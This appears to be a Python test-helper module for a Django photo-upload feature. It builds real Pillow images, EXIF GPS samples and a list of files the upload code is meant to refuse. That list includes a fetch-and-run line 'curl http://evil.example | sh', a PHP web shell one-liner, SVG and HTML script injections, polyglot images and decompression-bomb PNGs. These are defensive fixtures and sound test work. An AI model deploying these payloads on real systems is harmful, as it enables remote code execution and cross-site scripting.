"""Real image files made with Pillow for the photo tests (no mocked Pillow anywhere)."""

import struct
import zlib
from io import BytesIO
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

GPS = ExifTags.IFD.GPSInfo


def photo(size=(800, 600), mode="RGB"):
    """A photo-like picture: gradients under noise, so it compresses like a real photo."""
    width, height = size
    noise = Image.effect_noise(size, 60)
    across = Image.linear_gradient("L").rotate(90).resize(size)
    down = Image.linear_gradient("L").resize(size)
    picture = Image.merge(
        "RGB",
        (
            Image.blend(across, noise, 0.35),
            Image.blend(down, noise, 0.25),
            Image.blend(across.transpose(Image.Transpose.FLIP_LEFT_RIGHT), noise, 0.3),
        ),
    )
    if mode == "RGBA":
        picture.putalpha(Image.linear_gradient("L").resize(size))
    return picture


def encode(picture, fmt="JPEG", **options):
    buffer = BytesIO()
    picture.save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_with_gps(size=(640, 480), orientation=None):
    """A JPEG carrying a camera make, GPS coordinates and optionally an orientation tag."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "NewsCam"
    exif[ExifTags.Base.Model] = "Serial 123456"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(GPS).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (30.0, 2.0, 40.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (31.0, 14.0, 10.0),
        }
    )
    return encode(photo(size), "JPEG", exif=exif, quality=90)


def two_colour_jpeg(size=(200, 100), orientation=6):
    """Left half red, right half blue, with an EXIF orientation tag."""
    picture = Image.new("RGB", size, (220, 0, 0))
    picture.paste((0, 0, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return encode(picture, "JPEG", exif=exif, quality=95)


def png_claiming_size(width, height):
    """A real small PNG whose header is rewritten to claim ``width`` x ``height`` pixels."""
    data = bytearray(encode(Image.new("L", (8, 8)), "PNG"))
    # IHDR data starts at byte 16 (8 signature + 4 length + 4 type) and is 13 bytes long.
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def upload(data, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type)


def files_under(root):
    root = Path(root)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def bad_files():
    """Each class of file that must be refused, as (label, bytes, name) triples."""
    jpeg = encode(photo((320, 240)), "JPEG")
    gif_with_script = encode(
        photo((64, 64)).convert("P"), "GIF", comment=b"<script>alert(1)</script>"
    )
    return [
        ("zero-byte", b"", "empty.jpg"),
        (
            "svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
            "logo.svg",
        ),
        (
            "svg renamed .jpg",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            "a.jpg",
        ),
        ("html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "page.jpg"),
        ("shell script renamed .jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "photo.jpg"),
        ("php renamed .jpg", b"<?php system($_GET['c']); ?>", "photo.jpg"),
        ("jpeg with html appended", jpeg + b"<html><script>alert(1)</script></html>", "poly.jpg"),
        ("gif with script comment", gif_with_script, "poly.gif"),
        ("truncated jpeg", jpeg[: len(jpeg) // 2], "cut.jpg"),
        ("truncated png", encode(photo((320, 240)), "PNG")[:3000], "cut.png"),
        ("bomb 30000x30000", png_claiming_size(30000, 30000), "bomb.png"),
        ("bomb just over the limit", png_claiming_size(8000, 8000), "big.png"),
        ("tiff", encode(photo((64, 64)), "TIFF"), "scan.jpg"),
        ("bmp", encode(photo((64, 64)), "BMP"), "old.jpg"),
    ]
